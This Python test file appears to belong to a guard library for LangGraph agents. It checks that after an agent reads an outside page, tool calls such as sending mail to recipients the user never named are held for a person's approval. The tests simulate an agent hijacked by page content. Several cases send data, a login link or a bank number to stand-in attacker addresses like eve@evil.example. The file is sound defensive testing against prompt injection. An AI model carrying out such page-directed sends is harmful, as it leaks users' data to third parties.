"""What came from outside does not act: a call that changes the world says what the user said, or a person says yes."""

from typing import Any

import pytest
from act_kit import directory, read_page
from kit import LOOSE
from langchain_core.tools import tool
from langgraph.checkpoint.memory import InMemorySaver
from langgraph.graph import END, START, StateGraph
from langgraph.types import Command
from typing_extensions import TypedDict

from guards import Acts, declare, fallback, guard
from guards.running import scope as scopes
from guards.taint.words import folded, strangers

sent: list[tuple[str, str]] = []


@tool
async def send_mail(to: str, body: str) -> str:
    """Send a mail."""
    sent.append((to, body))
    return "sent"


declare(send_mail, "egress", sinks=["to"])

Steps = list[tuple[Any, dict[str, str]]]
READ: tuple[Any, dict[str, str]] = (read_page, {"url": "https://page.example"})


def mail(to: str, body: str = "It opened in May.") -> tuple[Any, dict[str, str]]:
    return send_mail, {"to": to, "body": body}


class Task(TypedDict, total=False):
    question: str
    done: str
    plan: list[str]


@pytest.fixture(autouse=True)
def nothing_sent() -> None:
    sent.clear()


def agent(*steps: tuple[Any, dict[str, str]]) -> Any:
    """An agent that is entirely in an attacker's hands: it makes these calls."""

    async def hijacked(state: Task) -> Task:
        for one, arguments in steps:
            await one.ainvoke(arguments)
        return {"done": "yes"}

    return hijacked


def graph(*nodes: Any, acts: Acts | None = None, saver: Any = None) -> Any:
    drawing: StateGraph[Any, Any, Any, Any] = StateGraph(Task)
    before = START
    for number, node in enumerate(nodes):
        drawing.add_node(f"agent{number}", node)
        drawing.add_edge(before, f"agent{number}")
        before = f"agent{number}"
    drawing.add_edge(before, END)
    made = guard(drawing, LOOSE.but(acts=acts or Acts()))
    return made.copy(update={"checkpointer": saver or InMemorySaver()})


async def ask(
    made: Any, question: str = "Tell ada@harbour.example when it opened", thread: str = "t", **more: Any
) -> Any:
    return await made.ainvoke({"question": question, **more}, {"configurable": {"thread_id": thread}})


def waits(result: dict[str, Any]) -> dict[str, Any]:
    (one,) = result["__interrupt__"]
    found: dict[str, Any] = one.value
    return found


async def test_bare_an_agent_does_what_a_page_tells_it() -> None:
    drawing: StateGraph[Any, Any, Any, Any] = StateGraph(Task)
    drawing.add_node("agent", agent(READ, mail("eve@evil.example")))
    drawing.add_edge(START, "agent")
    drawing.add_edge("agent", END)
    await drawing.compile().ainvoke({"question": "When did it open?"})
    assert sent


async def test_a_tainted_call_to_a_stranger_waits_for_a_person_and_shows_what_to_whom_and_why() -> None:
    made = graph(agent(READ, mail("eve@evil.example", "everything")))
    shown = waits(await ask(made))
    assert not sent and shown["to"] == {"to": "eve@evil.example"} and shown["sources"] == ["tool read_page"]
    assert shown["why"] == ["'to' is not in the user's words"] and shown["arguments"]["body"] == "everything"


@pytest.mark.parametrize(("answer", "number"), [("yes", 1), (True, 1), ("no", 0), ("", 0), ({"to": "x"}, 0)])
async def test_only_yes_lets_it_pass(answer: Any, number: int) -> None:
    made = graph(fallback(agent(READ, mail("eve@evil.example")), agent()))
    waits(await ask(made))
    result = await made.ainvoke(Command(resume=answer), {"configurable": {"thread_id": "t"}})
    assert len(sent) == number and result["done"] == "yes"
    assert number or "a person said no" in str(result["run"].missing)


async def test_what_the_user_said_needs_nobody() -> None:
    assert (await ask(graph(agent(READ, mail("ada@harbour.example")))))["done"] == "yes"
    assert sent == [("ada@harbour.example", "It opened in May.")]


async def test_before_anything_from_outside_was_read_nobody_is_asked() -> None:
    assert (await ask(graph(agent(mail("eve@evil.example"), READ))))["done"] == "yes"


async def test_the_users_own_records_vouch_and_taint_nothing() -> None:
    made = graph(agent((directory, {"name": "Ada"}), READ, mail("ada@harbour.example")))
    assert (await ask(made, "Tell Ada when it opened"))["done"] == "yes"
    waits(await ask(graph(agent(READ, mail("ada@harbour.example"))), "Tell Ada when it opened"))


async def test_an_identifier_in_the_text_itself_is_a_stranger_too() -> None:
    waits(await ask(graph(agent(READ, mail("ada@harbour.example", "See www.evil.example/login")))))
    assert not sent


async def test_taint_passes_to_the_next_agent_and_through_a_checkpoint() -> None:
    saver = InMemorySaver()
    made = graph(agent(READ), agent(mail("eve@evil.example")), saver=saver)
    waits(await ask(made))
    assert (await made.aget_state({"configurable": {"thread_id": "t"}})).values["run"].taint.sources == (
        "tool read_page",
    )
    again = graph(agent(READ), agent(mail("eve@evil.example")), saver=saver)
    assert waits(await again.ainvoke(None, {"configurable": {"thread_id": "t"}})) and not sent


async def test_taint_passes_into_a_sub_agent_and_out_of_it() -> None:
    async def reads(state: Task) -> Task:
        inner: StateGraph[Any, Any, Any, Any] = StateGraph(Task)
        inner.add_node("inner", agent(READ))
        inner.add_edge(START, "inner")
        inner.add_edge("inner", END)
        await guard(inner, LOOSE.but(acts=Acts())).ainvoke({"question": "read it"})
        await send_mail.ainvoke({"to": "eve@evil.example", "body": "x"})
        return {"done": "yes"}

    waits(await ask(graph(reads)))
    assert not sent


async def test_a_tool_that_is_not_in_the_plan_is_asked_about() -> None:
    made = graph(agent(READ, mail("ada@harbour.example")), acts=Acts(plan="plan"))
    assert waits(await ask(made, plan=["read_page"]))["why"] == ["the tool is not in the plan"]
    assert (await ask(made, plan=["read_page", "send_mail"], thread="u"))["done"] == "yes"


async def test_an_undeclared_tool_is_refused() -> None:
    @tool
    async def unknown(text: str) -> str:
        """Do something."""
        sent.append(("?", text))
        return ""

    result = await ask(graph(agent((unknown, {"text": "x"}))))
    assert not sent and "nobody declared what it does" in result["run"].stop_reason


async def test_the_role_of_the_caller_narrows_it() -> None:
    result = await ask(graph(agent(mail("ada@harbour.example")), acts=Acts(role="viewer")))
    assert not sent and "a viewer may only read" in result["run"].stop_reason
    assert (await ask(graph(agent(READ, mail("eve@evil.example")), acts=Acts(role="admin"))))["done"] == "yes"


@pytest.mark.parametrize(
    ("arguments", "foreign"),
    [
        ({"to": "Ada", "body": "whatever"}, []),
        ({"to": "Eve", "body": "whatever"}, ["to"]),
        ({"to": ["Ada", "Eve"], "body": ""}, ["to"]),
        ({"to": "Ada", "body": "pay DE89370400440532013000"}, ["body"]),
        ({"to": None, "body": "hello ada"}, []),
        ({"to": None, "body": "something else"}, ["body"]),
        ({"to": "Ada", "body": {"deep": ["https://evil.example/x"]}}, ["body"]),
    ],
)
def test_what_a_call_says_is_compared_with_the_users_words(arguments: dict[str, Any], foreign: list[str]) -> None:
    assert strangers(arguments, ("to",), folded("Say hello Ada, please")) == foreign


def test_a_declaration_names_the_tools_own_arguments() -> None:
    with pytest.raises(ValueError, match="has no argument 'recipient'"):
        declare(send_mail, "egress", sinks=["recipient"])
    with pytest.raises(ValueError, match="only a read can vouch"):
        declare(send_mail, "write", trusted=True)


@pytest.mark.parametrize(
    ("policy", "caller", "may"),
    [
        ("operator", "viewer", "read"),
        ("admin", "viewer", "read"),
        ("admin", "operator", "ask"),
        ("operator", "admin", "ask"),
        ("viewer", "admin", "read"),
        ("admin", "nonsense", "read"),
        ("admin", "admin", "act"),
        ("admin", "", "act"),
    ],
)
async def test_the_role_of_the_caller_narrows_the_policys_and_never_widens_it(
    policy: Any, caller: str, may: str
) -> None:
    made = graph(agent(READ, mail("eve@evil.example")), acts=Acts(role=policy), saver=InMemorySaver())
    config = {"configurable": {"thread_id": "1", "role": caller}}
    result = await made.ainvoke({"question": "Read the page."}, config)
    assert len(sent) == (may == "act")
    assert bool(result.get("__interrupt__")) == (may == "ask")
    assert ("viewer may only read" in str(result["run"])) == (may == "read")


@pytest.mark.parametrize("answer", ["yes", "no"])
async def test_an_admin_who_answers_for_an_operators_run_decides_and_is_not_taken_for_its_caller(answer: str) -> None:
    saver = InMemorySaver()
    for role, asked in (("operator", {"question": "Read the page."}), ("admin", Command(resume=answer))):
        made = graph(agent(READ, mail("eve@evil.example")), acts=Acts(role="admin"), saver=saver)
        result = await made.ainvoke(asked, {"configurable": {"thread_id": "1", "role": role}})
        scopes._scopes.clear()  # as in another process
    assert len(sent) == (answer == "yes") and not result.get("__interrupt__")
